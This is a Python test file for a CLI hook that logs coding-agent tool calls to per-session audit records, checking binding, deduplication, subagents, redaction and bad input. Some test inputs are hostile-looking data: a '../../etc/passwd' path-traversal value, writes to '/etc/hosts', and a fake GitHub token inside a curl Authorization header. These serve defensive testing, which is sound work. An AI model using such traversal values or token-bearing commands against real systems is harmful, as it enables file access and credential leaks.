"""What a harness's hook leaves: the right events on the right record, once, and never a disturbed agent."""

from __future__ import annotations

import fcntl
import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from hooking import run_hook
from specify_cli.features.hooks.handler import MAX_INPUT
from specify_cli.features.hooks.losses import MAX_ORPHAN, MAX_ORPHANS
from specify_cli.features.hooks.payload import values
from specify_cli.features.hooks.payload.compose import TooSlow, run_in_time
from specify_cli.record import layout
from support import FULL, SPEC_KITTY, Cli, accept, environment, git, wait_behind_a_destroyed_object

SESSION = "5f1d2c3b-0000-4000-8000-000000000001"
SECRET = "ghp_" + "aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5"
Found = Callable[[], list[Path]]
Hook = Callable[..., None]


def pre(root: Path, tool: str = "Grep", call: str = "toolu_1", session: str = SESSION, **more: Any) -> dict[str, Any]:
    """A PreToolUse payload as Claude Code sends it."""
    return {
        "session_id": session,
        "transcript_path": "/tmp/t.jsonl",
        "cwd": str(root),
        "hook_event_name": "PreToolUse",
        "tool_name": tool,
        "tool_input": {"pattern": "login"},
        "tool_use_id": call,
        **more,
    }


def post(root: Path, tool: str = "Grep", call: str = "toolu_1", session: str = SESSION, **more: Any) -> dict[str, Any]:
    """The PostToolUse payload of the same call."""
    return {**pre(root, tool, call, session), "hook_event_name": "PostToolUse", "tool_response": {"hits": 3}, **more}


@pytest.fixture
def hook(cli: Cli, chartered: Path) -> Hook:
    """Run the hook with a payload; it says nothing and exits 0, whatever it is given."""

    def run(payload: Any, harness: str = "claude-code", cwd: Path = chartered) -> None:
        data = payload if isinstance(payload, bytes) else json.dumps(payload).encode()
        done = cli("hook", harness, stdin=data, cwd=cwd)
        assert (done.code, done.out, done.err) == (0, "", "")

    return run


@pytest.fixture
def run(cli: Cli, chartered: Path) -> str:
    """An invocation begun inside a Claude Code session."""
    assert chartered
    done = cli("do", "implement WP03", "--json", env={"CLAUDE_CODE_SESSION_ID": SESSION})
    return str(done.json()["invocation_id"])


def events(root: Path, invocation_id: str) -> list[dict[str, Any]]:
    (path,) = (root / layout.RECORDS).glob(f"*{invocation_id}.jsonl")
    return [json.loads(line) for line in path.read_bytes().split(b"\n")[:-1]][4:]


def log(root: Path, path: str) -> list[dict[str, Any]]:
    file = root / path
    return [json.loads(line) for line in file.read_text().splitlines()] if file.exists() else []


def test_a_call_and_its_result_land_on_the_record_of_the_session(
    hook: Hook, chartered: Path, run: str, cli: Cli
) -> None:
    hook(pre(chartered))
    hook(post(chartered))

    call, result = events(chartered, run)
    assert (call["event"], call["tool"], call["call_id"], call["side_effect"]) == (
        "tool_call",
        "Grep",
        "toolu_1",
        "none",
    )
    assert (result["event"], result["call_id"], result["status"]) == ("tool_result", "toolu_1", "ok")
    assert cli("invocations", "verify", run, "--json").json()["findings"] == []


def test_the_same_physical_event_twice_is_recorded_once(hook: Hook, chartered: Path, run: str) -> None:
    for payload in (pre(chartered), pre(chartered), post(chartered), post(chartered), pre(chartered, call="toolu_2")):
        hook(payload)

    assert [(e["event"], e["call_id"]) for e in events(chartered, run)] == [
        ("tool_call", "toolu_1"),
        ("tool_result", "toolu_1"),
        ("tool_call", "toolu_2"),
    ]


def test_a_post_tool_event_that_carries_a_do_outranks_what_was_bound(
    hook: Hook, chartered: Path, run: str, cli: Cli
) -> None:
    """The agent itself asked for governance in its shell."""
    answer = cli("do", "review WP03", "--json")
    other = answer.json()["invocation_id"]
    carried: dict[str, Any] = {
        "tool_input": {"command": 'spec-kitty do "review WP03" --json'},
        "tool_response": {"stdout": answer.out},
    }
    hook(post(chartered, "Bash", "toolu_7", **carried))
    hook(pre(chartered, call="toolu_8"))

    assert [(e["event"], e["call_id"]) for e in events(chartered, other)] == [
        ("tool_call", "toolu_7"),
        ("tool_result", "toolu_7"),
        ("tool_call", "toolu_8"),
    ]
    assert events(chartered, run) == []


def test_without_a_binding_the_only_open_record_of_the_session_is_meant_and_never_one_of_two(
    hook: Hook, chartered: Path, run: str, cli: Cli
) -> None:
    bindings = chartered / layout.LOCAL / "bindings"
    for path in bindings.iterdir():
        path.unlink()
    hook(pre(chartered))
    cli("do", "review WP03", "--json", env={"CLAUDE_CODE_SESSION_ID": SESSION})
    for path in bindings.iterdir():
        path.unlink()
    hook(pre(chartered, call="toolu_2"))

    assert [e["call_id"] for e in events(chartered, run)] == ["toolu_1"]
    assert [line["why"] for line in log(chartered, layout.ORPHANS)] == ["no invocation is bound to this session"]


def test_an_event_of_no_session_we_know_is_an_orphan_that_doctor_counts(
    hook: Hook, chartered: Path, run: str, cli: Cli
) -> None:
    hook(pre(chartered, session="another", tool_input={"token": SECRET, "text": "x" * 100_000}))

    (line,) = log(chartered, layout.ORPHANS)
    assert events(chartered, run) == []
    assert line["harness"] == "claude-code" and SECRET not in json.dumps(line)
    assert (chartered / layout.ORPHANS).stat().st_size < 9000
    assert "HOOK_ORPHANS" in {item["code"] for item in cli("doctor", "--json").json()["findings"]}


def test_after_the_close_events_are_orphans(hook: Hook, chartered: Path, run: str, cli: Cli) -> None:
    cli("profile-invocation", "complete", "--invocation-id", run)
    before = events(chartered, run)
    hook(pre(chartered))

    assert events(chartered, run) == before
    assert "closed" in log(chartered, layout.ORPHANS)[0]["why"]


def test_sessions_and_worktrees_stay_apart(hook: Hook, chartered: Path, run: str, cli: Cli, home: Path) -> None:
    git(chartered, "add", ".kittify/charter", home=home)
    git(chartered, "commit", "-qm", "start", home=home)
    tree = chartered.parent / "tree"
    git(chartered, "worktree", "add", "-q", str(tree), home=home)
    there = cli("do", "implement WP04", "--json", cwd=tree, env={"CLAUDE_CODE_SESSION_ID": SESSION}).json()
    second = cli("do", "review WP03", "--json", env={"CLAUDE_CODE_SESSION_ID": "second"}).json()["invocation_id"]
    hook(pre(tree, call="in-tree"))
    hook(pre(chartered, call="of-second", session="second"))
    hook(pre(chartered, call="of-first"))

    assert [e["call_id"] for e in events(tree, there["invocation_id"])] == ["in-tree"]
    assert [e["call_id"] for e in events(chartered, second)] == ["of-second"]
    assert [e["call_id"] for e in events(chartered, run)] == ["of-first"]


def test_work_in_a_worktree_that_the_agent_made_is_the_records_that_its_session_is_bound_to(
    hook: Hook, chartered: Path, run: str, home: Path
) -> None:
    git(chartered, "commit", "-q", "--allow-empty", "-m", "start", home=home)
    git(chartered, "worktree", "add", "-q", "../side", home=home)
    side = chartered.parent / "side"
    hook(post(side, "Write", tool_input={"file_path": "new.txt", "content": "x"}), cwd=side)

    assert [e["path"] for e in events(chartered, run) if e["event"] == "patch_apply"] == [str(side / "new.txt")]


def test_a_secret_in_a_payload_is_nowhere_in_clear(hook: Hook, chartered: Path, run: str) -> None:
    hook(pre(chartered, "Bash", tool_input={"command": f"curl -H 'Authorization: Bearer {SECRET}'"}))
    hook(post(chartered, "Bash", tool_response={"stdout": f"export TOKEN={SECRET}\n"}))

    assert len(events(chartered, run)) == 2
    holding = [path for path in chartered.rglob("*") if path.is_file() and SECRET.encode() in path.read_bytes()]
    assert holding == []


@pytest.mark.parametrize(
    "payload",
    [b"", b"{", b"null", b"[]", b'"x"', b"\xff", b'{"session_id": 3, "tool_name": {}, "cwd": []}', b"[" * 100_000],
)
def test_what_is_no_payload_disturbs_nobody_and_doctor_knows(
    hook: Hook, chartered: Path, run: str, payload: bytes, cli: Cli
) -> None:
    hook(payload)

    assert events(chartered, run) == []
    assert [line["code"] for line in log(chartered, layout.HOOK_FAILURES)] == ["PAYLOAD_INVALID"]
    [repair] = [item["repair"] for item in cli("doctor", "--json").json()["findings"] if item["code"] == "HOOK_FAILED"]
    told = (chartered / layout.HOOK_FAILURES).read_bytes()
    subprocess.run(["sh", "-c", repair.partition(": ")[2]], cwd=chartered, check=True)
    assert (chartered / f"{layout.HOOK_FAILURES}.old").read_bytes() == told
    assert "HOOK_FAILED" not in cli("doctor", "--json").out


@pytest.mark.parametrize("harness", ["claude-code", "codex", "cursor", "nobody-knows", "--help-me"[2:]])
def test_unknown_events_and_harnesses_disturb_nobody(hook: Hook, chartered: Path, run: str, harness: str) -> None:
    hook({"session_id": SESSION, "cwd": str(chartered), "hook_event_name": "SomethingNew"}, harness)

    told = [(event["reason"], event["what"]) for event in events(chartered, run)]
    assert told == ([("unknown_payload", "SomethingNew")] if harness == "claude-code" else [])


def test_what_a_harness_reports_whose_package_is_gone_stands_where_doctor_shows_it(
    hook: Hook, chartered: Path, run: str, cli: Cli
) -> None:
    assert run
    hook({"session_id": "s-9", "cwd": str(chartered), "hook_event_name": "SomethingNew"}, "tern")
    hook({"session_id": "s-9", "cwd": str(chartered), "hook_event_name": "SomethingNew"}, "codex")

    assert [line["code"] for line in log(chartered, layout.HOOK_FAILURES)] == ["HARNESS_NOT_FOUND"]
    [found] = [item for item in cli("doctor", "--json").json()["findings"] if item["code"] == "HOOK_FAILED"]
    assert "no installed package brings the harness tern" in found["message"]
    assert "out of the program's settings" in found["message"]


def test_a_number_beyond_a_double_keeps_its_spelling(hook: Hook, chartered: Path, run: str) -> None:
    told = json.dumps(post(chartered, tool_response={"stdout": "fine", "ratio": 0.5})).replace("0.5", "1e400")
    hook(told.encode())
    (result,) = [line for line in events(chartered, run) if line["event"] == "tool_result"]

    assert result["output"]["head"] == '{"ratio":1e400,"stdout":"fine"}'


def test_a_large_output_is_cut_as_the_record_says(hook: Hook, chartered: Path, run: str) -> None:
    hook(post(chartered, tool_response={"text": "y" * 5_000_000}))

    (result,) = events(chartered, run)
    assert result["output"]["size"] > 5_000_000 and len(result["output"]["head"]) == 400


def test_where_spec_kitty_is_not_used_a_hook_leaves_no_trace(hook: Hook, tmp_path: Path) -> None:
    bare = tmp_path / "bare"
    bare.mkdir()
    git(bare, "init", "-q")
    hook(pre(bare), cwd=bare)

    assert sorted(path.name for path in bare.iterdir()) == [".git"]


def test_a_failure_of_its_own_is_left_for_doctor(hook: Hook, chartered: Path, run: str, cli: Cli) -> None:
    (chartered / ".kittify/config.yaml").write_text("redaction: nothing\n")
    hook(pre(chartered))
    (chartered / ".kittify/config.yaml").unlink()

    (line,) = log(chartered, layout.HOOK_FAILURES)
    assert line["code"] == "CONFIG_INVALID"
    assert "HOOK_FAILED" in {item["code"] for item in cli("doctor", "--json").json()["findings"]}
    assert events(chartered, run) == []


@pytest.mark.parametrize(
    ("config", "held"),
    [
        ("audit: {capture_tool_io: full}\n", "summary"),
        ("audit: {capture_tool_io: hash}\n", "hash"),
        ('"\\x61udit": {"\\x63apture_tool_io": "off"}\n', "off"),
        ("# audit: {capture_tool_io: off}\n", "summary"),
        ("audit:\n  capture_llm_io: full\n  capture_tool_io: summary\n", "summary"),
        ("audit:\n  capture_tool_io: 'off'\n", "off"),
    ],
)
def test_what_the_config_says_of_capture_holds_for_hooks_too(
    hook: Hook, chartered: Path, run: str, config: str, held: str
) -> None:
    (chartered / ".kittify/config.yaml").write_text(config)
    hook(pre(chartered))

    *_, call = events(chartered, run)
    found = "off" if "args_hash" not in call else "hash" if "args" not in call else "summary"
    assert found == held


@pytest.mark.parametrize("now", ["summary", "full"])
def test_a_run_begun_in_full_is_narrowed_by_what_the_config_states_now(
    hook: Hook, chartered: Path, cli: Cli, now: str
) -> None:
    config = chartered / ".kittify/config.yaml"
    config.write_text("audit:\n  capture_tool_io: full\n")
    accept(chartered)
    run = cli("do", "implement WP03", "--json", env={"CLAUDE_CODE_SESSION_ID": SESSION}).json()["invocation_id"]
    config.write_text(f"audit:\n  capture_tool_io: {now}\n")
    hook(pre(chartered))

    *_, call = events(chartered, run)
    assert isinstance(call["args"], str) == (now == "full")


def test_a_projects_own_rule_masks_what_hooks_bring(hook: Hook, chartered: Path, run: str) -> None:
    (chartered / ".kittify/config.yaml").write_text("redaction: {rules: {code-name: 'ORCHID-[0-9]+'}}\n")
    hook(pre(chartered, tool_input={"q": "ORCHID-17"}))

    *_, call = events(chartered, run)
    assert "ORCHID" not in json.dumps(call) and call["redactions"] == {"code-name": 1}


@pytest.mark.parametrize("planted", [b"{}", b"nope", b'{"invocation_id": "../../etc/passwd"}', b'{"invocation_id": 7}'])
def test_a_planted_binding_names_nothing_outside(hook: Hook, chartered: Path, run: str, planted: bytes) -> None:
    for path in (chartered / layout.LOCAL / "bindings").iterdir():
        path.write_bytes(planted)
    hook(pre(chartered))

    # The record itself says whose session it is.
    assert [e["call_id"] for e in events(chartered, run)] == ["toolu_1"]


@pytest.mark.stress
def test_many_hooks_at_once_lose_nothing(chartered: Path, run: str, home: Path, tmp_path: Path) -> None:
    hooks, children = 40 if FULL else 10, []
    for number in range(hooks):
        payload = tmp_path / f"p{number}.json"
        payload.write_text(json.dumps(pre(chartered, call=f"c{number}")))
        with payload.open("rb") as file:
            argv = [SPEC_KITTY, "hook", "claude-code"]
            children.append(subprocess.Popen(argv, cwd=chartered, env=environment(home), stdin=file))
    assert [child.wait() for child in children] == [0] * hooks

    assert sorted(e["call_id"] for e in events(chartered, run)) == sorted(f"c{number}" for number in range(hooks))


def test_the_ordinary_hook_loads_what_an_append_takes_and_no_more(chartered: Path, run: str, home: Path) -> None:
    """What is not here is the greater part of what it cost: `typing` and OpenSSL a tenth each."""
    program = (
        "import sys\nbefore = set(sys.modules)\nfrom specify_cli.cli.main import main\nmain(['hook', 'claude-code'])\n"
        "print(*sorted(set(sys.modules) - before))"
    )
    argv = [sys.executable, "-c", program]
    data = json.dumps(pre(chartered))
    done = subprocess.run(
        argv, cwd=chartered, env=environment(home), input=data, capture_output=True, text=True, check=True
    )
    loaded = set(done.stdout.split())

    assert [event["call_id"] for event in events(chartered, run)] == ["toolu_1"]
    assert not loaded & {"typing", "contextlib", "hashlib", "_hashlib", "dataclasses", "collections.abc", "inspect"}
    assert {name.removeprefix("specify_cli.") for name in loaded if name.startswith("specify_cli.")} == {
        *(
            "package_rules",
            "cli",
            "cli.main",
            "cli.stored_modules",
            "errors",
            "durable",
            "features",
            "features.hooks",
            "features.hooks.direct",
            "features.hooks.handler",
            "features.hooks.harnesses",
            "features.hooks.harnesses.claude_code",
            "features.hooks.payload",
            "features.hooks.payload.calls",
            "features.hooks.payload.dialect",
            "features.hooks.payload.site",
            "features.hooks.payload.values",
            "invocation",
            "invocation.bindings",
        ),
        *(
            "invocation.events",
            "invocation.events.event_body",
            "invocation.events.settings",
            "project",
            "project.protection",
            "project.root",
            "record",
        ),
        "project.tracked",  # or it would append to a file that git publishes
        *(
            "record.event_table",
            "record.ids",
            "record.layout",
            "record.record",
            "record.seal",
            "redaction",
            "redaction.capture",
        ),
        *("redaction.finders", "redaction.heuristics", "redaction.json_values"),
        *("redaction.redact", "redaction.rules"),
        *("storage", "storage.store"),
    }


AGENT = {"agent_id": "agent-1", "agent_type": "Explore"}


def do_call(root: Path, call: str, command: str, **more: Any) -> dict[str, Any]:
    return pre(root, "Bash", call, **{"tool_input": {"command": command}, **more})


def after(before: dict[str, Any], printed: str) -> dict[str, Any]:
    return {**before, "hook_event_name": "PostToolUse", "tool_response": {"stdout": printed}}


def test_a_do_inside_a_subagent_has_its_own_record_and_names_the_one_above(
    hook: Hook, chartered: Path, run: str, cli: Cli
) -> None:
    call = do_call(chartered, "t1", 'spec-kitty do "review WP03" --json', **AGENT)
    hook(call)
    answer = cli("do", "review WP03", "--json", env={"CLAUDE_CODE_SESSION_ID": SESSION})
    child = answer.json()["invocation_id"]
    hook(pre(chartered, call="of-main-meanwhile"))
    hook(after(call, answer.out))
    hook(pre(chartered, call="of-child", **AGENT))
    hook(pre(chartered, call="of-another", agent_id="agent-2"))
    hook(pre(chartered, call="of-main"))
    row = next(row for row in cli("invocations", "list", "--json").json() if row["invocation_id"] == child)

    assert row["parent_invocation_id"] == run
    assert [e["call_id"] for e in events(chartered, child)] == ["t1", "t1", "of-child"]
    assert [(e["call_id"], e.get("agent")) for e in events(chartered, run)] == [
        ("t1", "agent-1"),
        ("of-main-meanwhile", None),
        ("t1", "agent-1"),
        ("of-another", "agent-2"),
        ("of-main", None),
    ]


def test_a_subagent_that_closed_its_own_record_works_for_the_one_above_again(
    hook: Hook, chartered: Path, run: str, cli: Cli
) -> None:
    call = do_call(chartered, "t1", 'spec-kitty do "review WP03" --json', **AGENT)
    hook(call)
    child = cli("do", "review WP03", "--json", env={"CLAUDE_CODE_SESSION_ID": SESSION}).json()["invocation_id"]
    cli("profile-invocation", "complete", "--invocation-id", child)
    hook(pre(chartered, call="later", **AGENT))

    assert [e["call_id"] for e in events(chartered, run)] == ["t1", "later"]
    assert log(chartered, layout.ORPHANS) == []


def test_a_subagents_record_that_goes_on_is_told_how_the_do_ended_whose_begin_it_holds(
    hook: Hook, chartered: Path, run: str, cli: Cli
) -> None:
    """The record between the two is closed, so the begin went to the one before it."""
    begun: list[str] = []
    for number in (1, 2, 3):
        call = do_call(chartered, f"t{number}", "spec-kitty do 'review WP03' --json", **AGENT)
        hook(call)
        answer = cli("do", "review WP03", "--json", env={"CLAUDE_CODE_SESSION_ID": SESSION})
        hook(after(call, answer.out))
        begun.append(answer.json()["invocation_id"])
        if number == 2:
            cli("profile-invocation", "complete", "--invocation-id", begun[1])
    told = [event["event"] for event in events(chartered, begun[0]) if event["call_id"] == "t3"]

    assert told == ["tool_call", "tool_result"]
    assert "t3" not in [event["call_id"] for event in events(chartered, run)]


def test_a_subagents_do_whose_begin_was_not_told_leaves_the_session_its_record(
    hook: Hook, chartered: Path, run: str, cli: Cli
) -> None:
    """`do` took the session for its own; what it printed then tells whose it was."""
    answer = cli("do", "review WP03", "--json", env={"CLAUDE_CODE_SESSION_ID": SESSION})
    hook(after(do_call(chartered, "t1", "spec-kitty do 'review WP03' --json", **AGENT), answer.out))
    hook(pre(chartered, call="of-child", **AGENT))
    hook(pre(chartered, call="of-main"))

    assert [e["call_id"] for e in events(chartered, answer.json()["invocation_id"])] == ["t1", "t1", "of-child"]
    assert [e["call_id"] for e in events(chartered, run)] == ["of-main"]


def test_two_agents_that_begin_at_once_are_not_told_apart_by_a_guess(
    hook: Hook, chartered: Path, run: str, cli: Cli
) -> None:
    for number in (1, 2):
        hook(do_call(chartered, f"t{number}", "spec-kitty do 'review WP03'", agent_id=f"agent-{number}"))
    answer = cli("do", "review WP03", "--json", env={"CLAUDE_CODE_SESSION_ID": SESSION})
    child = answer.json()["invocation_id"]
    row = next(row for row in cli("invocations", "list", "--json").json() if row["invocation_id"] == child)
    assert row["parent_invocation_id"] is None

    hook(after(do_call(chartered, "t2", "spec-kitty do 'review WP03'", agent_id="agent-2"), answer.out))
    for agent in ("agent-1", "agent-2"):
        hook(pre(chartered, call=f"of-{agent}", agent_id=agent))

    assert [e["call_id"] for e in events(chartered, child)] == ["t2", "t2", "of-agent-2"]
    assert [e["call_id"] for e in events(chartered, run)] == ["t1", "t2", "t2", "of-agent-1"]


def test_a_do_of_another_worktree_leaves_the_sessions_record_here_bound(hook: Hook, chartered: Path, run: str) -> None:
    printed = '{"invocation_id": "01K6Z3Q8R00000000000000ABC"}'
    hook(after(do_call(chartered, "t1", "cd ../tree && spec-kitty do x --json"), printed))
    hook(pre(chartered, call="t2"))

    assert [e["call_id"] for e in events(chartered, run)] == ["t1", "t1", "t2"]


def test_when_the_newer_of_two_closes_the_one_that_is_open_is_meant(
    hook: Hook, chartered: Path, run: str, cli: Cli
) -> None:
    env = {"CLAUDE_CODE_SESSION_ID": SESSION}
    second = cli("do", "review WP03", "--json", env=env).json()["invocation_id"]
    hook(pre(chartered, call="t1"))
    cli("profile-invocation", "complete", "--invocation-id", second)
    hook(pre(chartered, call="t2"))

    assert [e["call_id"] for e in events(chartered, second) if e["event"] == "tool_call"] == ["t1"]
    assert [e["call_id"] for e in events(chartered, run)] == ["t2"]


def test_a_patch_is_named_from_the_projects_top_wherever_the_agent_works(hook: Hook, chartered: Path, run: str) -> None:
    below = chartered / "api"
    below.mkdir()
    for number, path in enumerate(("src/a.py", "../b.py", str(below / "./c.py"), "/etc/hosts", "../../out.py")):
        given: dict[str, Any] = {"tool_input": {"file_path": path, "content": "x"}, "cwd": str(below)}
        hook(post(chartered, "Write", f"t{number}", **given), cwd=below)

    found = [e["path"] for e in events(chartered, run) if e["event"] == "patch_apply"]
    assert found == ["api/src/a.py", "b.py", "api/c.py", "/etc/hosts", str(chartered.parent / "out.py")]


def test_where_no_binding_can_be_kept_the_record_is_found_by_its_session(hook: Hook, chartered: Path, run: str) -> None:
    bindings = chartered / layout.LOCAL / "bindings"
    for path in bindings.iterdir():
        path.unlink()
    bindings.rmdir()
    bindings.write_text("in the way")
    hook(pre(chartered))

    assert [e["call_id"] for e in events(chartered, run)] == ["toolu_1"]


def test_show_tells_what_a_subagent_did_from_what_its_parent_did(
    hook: Hook, chartered: Path, run: str, cli: Cli
) -> None:  # room: story
    hook({**pre(chartered, **AGENT), "hook_event_name": "SubagentStart"})
    hook(pre(chartered, "Grep", "t1", **AGENT))
    hook(pre(chartered, "Read", "t2"))
    call = do_call(chartered, "t3", "spec-kitty do 'review WP03'", **AGENT)
    hook(call)
    child = cli("do", "review WP03", "--json", env={"CLAUDE_CODE_SESSION_ID": SESSION}).json()["invocation_id"]
    page = cli("invocations", "show", run).out.partition("what was done\n")[2].partition("left:")[0]
    subagent, searched, ran, read = page.splitlines()

    assert subagent.endswith("  subagent Explore (agent-1)")
    assert [line.startswith("    ") for line in (searched, ran, read)] == [True, True, False]
    assert "searched" in searched and "ran spec-kitty" in ran and "read" in read
    assert f"parent:   {run}" in cli("invocations", "show", child).out


def antigravity(root: Path, step: int, command: str, transcript: Path) -> dict[str, Any]:
    call = {"name": "run_command", "args": {"CommandLine": command}}
    session = {"conversationId": "agy-1", "workspacePaths": [str(root)], "transcriptPath": str(transcript)}
    return {**session, "stepIdx": step, "toolCall": call}


@pytest.mark.parametrize(
    ("command", "bound"), [('spec-kitty do "review WP03"', True), ('spec-kitty do "plan WP04"', False), ("ls", False)]
)
def test_a_transcript_binds_only_the_record_whose_request_the_command_line_names(
    hook: Hook, chartered: Path, cli: Cli, tmp_path: Path, command: str, bound: bool
) -> None:
    """Its last record may be that of an earlier call."""
    answer = cli("do", "review WP03", "--json")
    transcript = tmp_path / "transcript.jsonl"
    transcript.write_text(json.dumps({"steps": [json.dumps({"output": answer.out})]}) + "\n")
    hook(antigravity(chartered, 1, command, transcript), "antigravity")

    found = [event["event"] for event in events(chartered, answer.json()["invocation_id"])]
    assert found == (["tool_call", "tool_result"] if bound else [])


ENV = {"CLAUDE_CODE_SESSION_ID": SESSION}
DO = 'spec-kitty do "review WP03" --json'


@pytest.fixture
def other(cli: Cli, chartered: Path) -> str:
    """An open record of another session."""
    assert chartered
    return str(cli("do", "plan WP04", "--json", env={"CLAUDE_CODE_SESSION_ID": "other"}).json()["invocation_id"])


def calls(root: Path, invocation_id: str) -> list[str]:
    return [event["call_id"] for event in events(root, invocation_id) if event["event"] == "tool_call"]


def test_a_search_for_the_words_binds_a_session_to_nothing_it_finds(
    hook: Hook, chartered: Path, run: str, other: str
) -> None:
    call = do_call(chartered, "t1", 'grep -rn "spec-kitty do" .')
    hook(call)
    hook(after(call, f'notes: {{"invocation_id": "{other}"}}'))
    hook(pre(chartered, "Read", "t2"))

    assert (calls(chartered, run), events(chartered, other)) == (["t1", "t2"], [])


@pytest.mark.parametrize("marked", [True, False])
@pytest.mark.parametrize("form", ["list", "text", "failed"])
def test_ids_of_other_sessions_in_an_output_bind_nothing(
    hook: Hook, chartered: Path, run: str, other: str, cli: Cli, form: str, marked: bool
) -> None:
    call = do_call(chartered, "t1", f"{DO}; cat NOTES.md; spec-kitty invocations list --json")
    if marked:
        hook(call)
    answer = cli("do", "review WP03", "--json", env=ENV)
    mine = answer.json()["invocation_id"]
    rest = f"\n--invocation-id {other}\n" if form == "text" else cli("invocations", "list", "--json").out
    if form == "failed":
        cli("profile-invocation", "complete", "--invocation-id", mine)
    hook(after(call, rest if form == "failed" else answer.out + rest))
    hook(pre(chartered, "Read", "t2"))

    assert events(chartered, other) == []
    assert "t2" in calls(chartered, run if form == "failed" else mine)


def test_a_record_that_was_there_before_the_call_was_not_begun_by_it(
    hook: Hook, chartered: Path, run: str, cli: Cli
) -> None:
    """Nothing names the session of a record that a person began."""
    older = cli("do", "review WP03", "--json")
    call = do_call(chartered, "t1", DO)
    hook(call)
    hook(after(call, older.out))
    hook(pre(chartered, "Read", "t2"))

    assert (calls(chartered, run), events(chartered, older.json()["invocation_id"])) == (["t1", "t2"], [])


@pytest.mark.usefixtures("run")
def test_of_two_records_begun_in_one_call_the_environment_tells_the_one_that_is_meant(
    hook: Hook, chartered: Path, cli: Cli
) -> None:
    call = do_call(chartered, "t1", f"{DO}; {DO}")
    hook(call)
    one, two = (cli("do", "review WP03", "--json", env=ENV) for _ in range(2))
    hook(after(call, two.out + one.out))
    hook(pre(chartered, call="t2"))

    assert calls(chartered, two.json()["invocation_id"]) == ["t1", "t2"]
    assert events(chartered, one.json()["invocation_id"]) == []


@pytest.mark.usefixtures("run")
def test_a_call_that_only_quotes_a_do_is_kept_with_its_output(hook: Hook, chartered: Path) -> None:
    call = do_call(chartered, "t1", "git commit -m 'spec-kitty do is used'", session="unbound")
    hook(call)
    hook(after(call, "[main 1a2b3c4] spec-kitty do is used"))

    (orphan,) = log(chartered, layout.ORPHANS)
    assert [event["event"] for event in orphan["events"]] == ["tool_call", "tool_result"]


@pytest.mark.parametrize("ends", ["ABC", "CBA", "BAC", ""])
@pytest.mark.parametrize("apart", [True, False])
def test_subagents_that_begin_records_at_once_leave_the_session_its_own(
    hook: Hook, chartered: Path, run: str, cli: Cli, ends: str, apart: bool
) -> None:
    answers: dict[str, Any] = {}
    pending = {agent: do_call(chartered, f"do-{agent}", DO, agent_id=agent) for agent in "ABC"}
    for agent, call in pending.items():
        hook(call)
        if not apart:
            answers[agent] = cli("do", "review WP03", "--json", env=ENV)
    for agent in "ABC" if apart else "":
        answers[agent] = cli("do", "review WP03", "--json", env=ENV)
    for agent in ends:
        hook(after(pending[agent], answers[agent].out))
    for agent in ends:
        hook(pre(chartered, call=f"of-{agent}", agent_id=agent))
    hook(pre(chartered, call="of-main"))

    assert calls(chartered, run)[-1] == "of-main"
    for agent in ends:
        assert calls(chartered, answers[agent].json()["invocation_id"]) == [f"do-{agent}", f"of-{agent}"]
    cli("profile-invocation", "complete", "--invocation-id", run)
    hook(pre(chartered, call="after-the-end"))
    if len(ends) == 3:
        assert log(chartered, layout.ORPHANS)[-1]["keys"], "a subagent's record is not the session's"
        assert all("after-the-end" not in calls(chartered, a.json()["invocation_id"]) for a in answers.values())


def test_records_of_subagents_whose_begins_were_not_told_are_given_back_in_any_order(
    hook: Hook, chartered: Path, run: str, cli: Cli
) -> None:
    answers = {agent: cli("do", "review WP03", "--json", env=ENV) for agent in "ABC"}
    for agent in "BAC":
        hook(after(do_call(chartered, f"do-{agent}", DO, agent_id=agent), answers[agent].out))
    hook(pre(chartered, call="of-main"))

    assert calls(chartered, run) == ["of-main"]


@pytest.mark.usefixtures("run")
def test_a_mark_without_an_end_counts_for_a_quarter_of_an_hour(hook: Hook, chartered: Path, cli: Cli) -> None:
    """The user said no to the call, or it was killed."""
    hook(do_call(chartered, "t1", DO, **AGENT))
    for path in (chartered / layout.LOCAL / "calls").rglob("*.json"):
        os.utime(path, (path.stat().st_mtime - 901,) * 2)
    mine = cli("do", "review WP03", "--json", env=ENV).json()["invocation_id"]
    hook(pre(chartered, call="of-main"))
    row = next(row for row in cli("invocations", "list", "--json").json() if row["invocation_id"] == mine)

    assert row["parent_invocation_id"] is None
    assert calls(chartered, mine) == ["of-main"]


@pytest.mark.usefixtures("run")
def test_a_subagent_that_stopped_has_no_call_under_way(hook: Hook, chartered: Path, cli: Cli) -> None:
    hook(do_call(chartered, "t1", DO, **AGENT))
    hook({**pre(chartered, **AGENT), "hook_event_name": "SubagentStop"})
    mine = cli("do", "review WP03", "--json", env=ENV).json()["invocation_id"]
    hook(pre(chartered, call="of-main"))

    assert calls(chartered, mine) == ["of-main"]


def test_a_main_call_that_never_ran_does_not_take_what_a_subagent_begins(
    hook: Hook, chartered: Path, run: str, cli: Cli
) -> None:
    hook(do_call(chartered, "t1", DO))
    call = do_call(chartered, "t2", DO, **AGENT)
    hook(call)
    answer = cli("do", "review WP03", "--json", env=ENV)
    hook(pre(chartered, call="of-main"))
    hook(after(call, answer.out))
    hook(pre(chartered, call="of-agent", **AGENT))
    hook(pre(chartered, call="of-main-again"))

    assert calls(chartered, answer.json()["invocation_id"]) == ["t2", "of-agent"]
    assert calls(chartered, run) == ["t1", "t2", "of-main", "of-main-again"]


@pytest.mark.parametrize("session", [SESSION, "unbound"])
def test_an_agent_that_looks_around_elsewhere_still_works_for_its_project(
    hook: Hook, chartered: Path, run: str, home: Path, session: str
) -> None:
    nested = chartered / "vendor/lib"
    nested.mkdir(parents=True)
    git(nested, "init", "-q", home=home)
    for number, folder in enumerate((nested, chartered.parent, Path("/nowhere"), Path("/a\0b"), Path("relative"))):
        hook(pre(folder, call=f"t{number}", session=session), cwd=chartered)

    there = calls(chartered, run) if session == SESSION else log(chartered, layout.ORPHANS)
    assert len(there) == 5
    assert not (nested / ".kittify").exists()


def test_the_project_a_harness_was_started_in_counts_where_the_hook_runs_elsewhere(
    chartered: Path, run: str, cli: Cli, tmp_path: Path
) -> None:
    where = tmp_path / "elsewhere"
    where.mkdir()
    data = json.dumps(pre(where)).encode()
    cli("hook", "claude-code", stdin=data, cwd=where, env={"CLAUDE_PROJECT_DIR": str(chartered)})

    assert calls(chartered, run) == ["toolu_1"]


def decoy(folder: Path) -> Path:
    """What a branch can ship, or an agent make, to be taken for a project of its own."""
    (folder / layout.RECORDS).mkdir(parents=True)
